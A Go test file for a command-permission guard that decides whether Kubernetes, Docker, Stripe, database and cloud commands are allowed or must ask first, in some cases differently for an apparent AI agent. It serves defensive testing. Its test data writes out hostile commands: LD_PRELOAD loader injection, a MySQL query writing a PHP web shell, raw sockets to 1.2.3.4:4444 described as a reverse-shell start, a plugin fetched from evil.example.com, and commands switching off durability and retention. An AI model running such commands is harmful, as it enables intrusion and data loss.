package rules_test

import (
	"testing"

	"github.com/hguard/hguard/dsl"
)

// TestSvc53KubectlIndirect: what kubectl's verbs delete, done by a patch
// (rtm52 C): replicas set to 0 (scale --replicas=0 asks), finalizers
// nulled or emptied (a pending delete finishes), a JSON patch removing or
// nulling part of a spec or a ConfigMap's data, a merge patch's null; a
// label removed from a namespace (whatever selected it no longer does);
// a loader variable set in a workload's or container's environment. A
// patch that scales up, changes an image or removes a label, a set env of
// an everyday variable, a new image and an annotation stay allowed.
func TestSvc53KubectlIndirect(t *testing.T) {
	checkHoles(t, []holeCase{
		{`kubectl patch deploy web -p '{"spec":{"replicas":0}}'`, dsl.Ask, dsl.Ask},                                                 // was allowed
		{`kubectl patch deployment/web --patch '{"spec": {"replicas": "0"}}'`, dsl.Ask, dsl.Ask},                                    // was allowed
		{`kubectl patch sts db -p 'spec: {replicas: 0}'`, dsl.Ask, dsl.Ask},                                                         // was allowed
		{`kubectl patch deploy web --type=json -p='[{"op":"replace","path":"/spec/replicas","value":0}]'`, dsl.Ask, dsl.Ask},        // was allowed
		{`kubectl patch pvc data -p '{"metadata":{"finalizers":null}}'`, dsl.Ask, dsl.Ask},                                          // was allowed
		{`kubectl patch ns old -p '{"metadata":{"finalizers":[]}}' --type=merge`, dsl.Ask, dsl.Ask},                                 // was allowed
		{`kubectl patch pvc data --type=json -p '[{"op":"remove","path":"/metadata/finalizers"}]'`, dsl.Ask, dsl.Ask},               // was allowed
		{`kubectl patch deploy web --type=json -p '[{"op":"remove","path":"/spec/template/spec/containers/0"}]'`, dsl.Ask, dsl.Ask}, // was allowed
		{`kubectl patch configmap app --type json -p '[{"op": "remove", "path": "/data"}]'`, dsl.Ask, dsl.Ask},                      // was allowed
		{`kubectl patch deploy web -p '{"spec":{"template":{"spec":{"containers":null}}}}'`, dsl.Ask, dsl.Ask},                      // was allowed
		{`sudo kubectl -n prod patch deploy web -p '{"spec":{"replicas":0}}'`, dsl.Ask, dsl.Ask},                                    // was allowed
		{`kubecolor patch deploy web -p '{"spec":{"replicas":0}}'`, dsl.Ask, dsl.Ask},                                               // was allowed
		{`kubectl label ns prod x-`, dsl.Ask, dsl.Ask},                                                                              // was allowed
		{`kubectl label namespace prod istio-injection-`, dsl.Ask, dsl.Ask},                                                         // was allowed
		{`kubectl set env deploy/web LD_PRELOAD=/tmp/x.so`, dsl.Ask, dsl.Ask},                                                       // was allowed
		{`kubectl set env deploy/web JAVA_TOOL_OPTIONS=-javaagent:/data/a.jar`, dsl.Ask, dsl.Ask},                                   // was allowed
		{`kubectl run x --image=nginx --env=LD_PRELOAD=/tmp/x.so`, dsl.Ask, dsl.Ask},                                                // was allowed
		{`docker run -e LD_PRELOAD=/data/x.so nginx`, dsl.Ask, dsl.Ask},                                                             // was allowed
		{`docker run --env NODE_OPTIONS='--require /data/h.js' node`, dsl.Ask, dsl.Ask},                                             // was allowed
		{`kubectl patch deploy web -p '{"spec":{"replicas":3}}'`, dsl.Allow, dsl.Allow},
		{`kubectl patch deploy web -p '{"spec":{"template":{"metadata":{"annotations":{"kubectl.kubernetes.io/restartedAt":"2026-12-06"}}}}}'`, dsl.Allow, dsl.Allow},
		{`kubectl patch deploy web -p '{"metadata":{"labels":{"tier":null}}}'`, dsl.Allow, dsl.Allow},
		{`kubectl patch svc web -p '{"spec":{"type":"LoadBalancer"}}'`, dsl.Allow, dsl.Allow},
		{`kubectl patch deploy web --type=json -p '[{"op":"replace","path":"/spec/template/spec/containers/0/image","value":"nginx:1.25"}]'`, dsl.Allow, dsl.Allow},
		{`kubectl set env deploy/web LOG_LEVEL=debug`, dsl.Allow, dsl.Allow},
		{`kubectl set env deploy/web --list`, dsl.Allow, dsl.Allow},
		{`kubectl set image deploy/web web=ghcr.io/acme/web:1.4.2`, dsl.Allow, dsl.Allow},
		{`kubectl annotate pod web description='cache node' --overwrite`, dsl.Allow, dsl.Allow},
		{`kubectl label pods web tier-`, dsl.Allow, dsl.Allow},
		{`kubectl label ns dev team=web`, dsl.Allow, dsl.Allow},
		{`kubectl delete pod web-7d9f`, dsl.Allow, dsl.Allow},
		{`docker run -e NODE_ENV=production -e NODE_OPTIONS=--max-old-space-size=4096 node`, dsl.Allow, dsl.Allow},
	})
}

// TestSvc53MoneyRetention: money moved through Stripe's CLI (a charge, a
// confirmed or captured payment, a paid invoice; refunds and payouts
// now say they move money, not that they delete), retention and
// durability off (a bucket's lifecycle, a log group kept under a week,
// Azure's soft delete, Redis's append-only file or snapshots, PostgreSQL's
// fsync), a database server stopped (said so, not "drops a database"),
// and a web shell written by the database server (rtm52 A, C). Reads,
// listings and keeping settings stay allowed.
func TestSvc53MoneyRetention(t *testing.T) {
	checkHoles(t, []holeCase{
		{`stripe charges create --amount=5000 --currency=usd --source=tok_visa`, dsl.Ask, dsl.Ask},                               // was allowed
		{`stripe payment_intents create --amount=2000 --currency=usd --confirm`, dsl.Ask, dsl.Ask},                               // was allowed
		{`stripe payment_intents capture pi_123`, dsl.Ask, dsl.Ask},                                                              // was allowed
		{`stripe invoices pay in_123`, dsl.Ask, dsl.Ask},                                                                         // was allowed
		{`stripe post /v1/charges -d amount=5000 -d currency=usd -d source=tok_visa`, dsl.Ask, dsl.Ask},                          // was allowed
		{`redis-cli -h prod config set appendonly no`, dsl.Ask, dsl.Ask},                                                         // was allowed
		{`redis-cli -h prod config set save ""`, dsl.Ask, dsl.Ask},                                                               // was allowed
		{`psql -c "ALTER SYSTEM SET fsync = off"`, dsl.Ask, dsl.Ask},                                                             // was allowed
		{`aws s3api put-bucket-lifecycle-configuration --bucket b --lifecycle-configuration file://lc.json`, dsl.Ask, dsl.Ask},   // was allowed
		{`gsutil lifecycle set lc.json gs://b`, dsl.Ask, dsl.Ask},                                                                // was allowed
		{`aws logs put-retention-policy --log-group-name g --retention-in-days 1`, dsl.Ask, dsl.Ask},                             // was allowed
		{`az storage account blob-service-properties update --account-name a --enable-delete-retention false`, dsl.Ask, dsl.Ask}, // was allowed
		{`mysql -e "SELECT '<?php system($_GET[c])?>' INTO OUTFILE '/var/www/html/s.php'"`, dsl.Ask, dsl.Ask},                    // was allowed for a person
		{`mysql -u root -e "select 0x3c3f706870 into dumpfile '/srv/www/x.php'"`, dsl.Ask, dsl.Ask},                              // was allowed for a person
		{`mysql -e 'SELECT "<?php system($_GET[c])?>" INTO OUTFILE "/var/www/html/s.php"'`, dsl.Ask, dsl.Ask},                    // was allowed for a person
		{`stripe refunds create --charge=ch_123`, dsl.Ask, dsl.Ask},                                                              // service-money now, not service-delete
		{`aws s3api put-bucket-versioning --bucket b --versioning-configuration Status=Suspended`, dsl.Ask, dsl.Ask},             // service-retention-off now
		{`mysqladmin -u root -p shutdown`, dsl.Ask, dsl.Ask},                                                                     // database-server-stop now
		{`stripe charges list --limit 3`, dsl.Allow, dsl.Allow},
		{`stripe payment_intents create --amount=2000 --currency=usd`, dsl.Allow, dsl.Allow},
		{`stripe trigger payment_intent.succeeded`, dsl.Allow, dsl.Allow},
		{`redis-cli config get save`, dsl.Allow, dsl.Allow},
		{`redis-cli config set appendonly yes`, dsl.Allow, dsl.Allow},
		{`redis-cli config set maxmemory 2gb`, dsl.Allow, dsl.Allow},
		{`aws s3api get-bucket-lifecycle-configuration --bucket b`, dsl.Allow, dsl.Allow},
		{`aws logs put-retention-policy --log-group-name g --retention-in-days 30`, dsl.Allow, dsl.Allow},
		{`aws s3api put-bucket-versioning --bucket b --versioning-configuration Status=Enabled`, dsl.Allow, dsl.Allow},
		{`az storage account blob-service-properties update --account-name a --enable-delete-retention true --delete-retention-days 7`, dsl.Allow, dsl.Allow},
		{`mysql -e "SELECT * FROM users INTO OUTFILE '/tmp/users.csv'"`, dsl.Allow, dsl.Allow},
		{`mysqladmin -u root status`, dsl.Allow, dsl.Allow},
	})
}

// TestSvc53SocketsPlugins: inline code opening a raw socket to a literal
// public address (PowerShell's TCPClient, crystal eval's TCPSocket,
// Python's, Ruby's: rtm52 C, the first half of a reverse shell) asks; to
// a name or a private address it stays allowed. A person's helm plugin or
// gh extension from a forge is everyday (rtm52 A) and allowed, an agent's
// asks; a docker plugin granted every permission runs as root and asks.
func TestSvc53SocketsPlugins(t *testing.T) {
	checkHoles(t, []holeCase{
		{`pwsh -c '$c=New-Object Net.Sockets.TCPClient("1.2.3.4",4444);$s=$c.GetStream()'`, dsl.Ask, dsl.Ask}, // was allowed
		{`crystal eval 'TCPSocket.new("1.2.3.4",4444)'`, dsl.Ask, dsl.Ask},                                    // was allowed
		{`python3 -c 'import socket;s=socket.create_connection(("1.2.3.4",4444))'`, dsl.Ask, dsl.Ask},         // was allowed
		{`ruby -rsocket -e 'TCPSocket.new("1.2.3.4",4444)'`, dsl.Ask, dsl.Ask},                                // was allowed
		{`python3 -c 'import socket;s=socket.create_connection(("localhost",8080))'`, dsl.Allow, dsl.Allow},
		{`python3 -c 'import socket;socket.create_connection(("10.0.0.5",5432))'`, dsl.Allow, dsl.Allow},
		{`ruby -rsocket -e 'puts TCPSocket.new("example.com", 80).gets'`, dsl.Allow, dsl.Allow},
		{`helm plugin install https://github.com/databus23/helm-diff`, dsl.Allow, dsl.Ask},                    // was asked for a person
		{`helm plugin install https://github.com/jkroepke/helm-secrets --version v4.6.0`, dsl.Allow, dsl.Ask}, // was asked for a person
		{`gh extension install dlvhdr/gh-dash`, dsl.Allow, dsl.Ask},                                           // was asked for a person
		{`helm plugin install https://evil.example.com/x/y`, dsl.Ask, dsl.Ask},
		{`helm plugin install http://github.com/x/y`, dsl.Ask, dsl.Ask},
		{`gh extension install https://ghe.example.com/o/gh-x`, dsl.Ask, dsl.Ask},
		{`docker plugin install grafana/loki-docker-driver:latest --alias loki --grant-all-permissions`, dsl.Ask, dsl.Ask},
		{`docker plugin install vieux/sshfs`, dsl.Allow, dsl.Allow},
	})
}
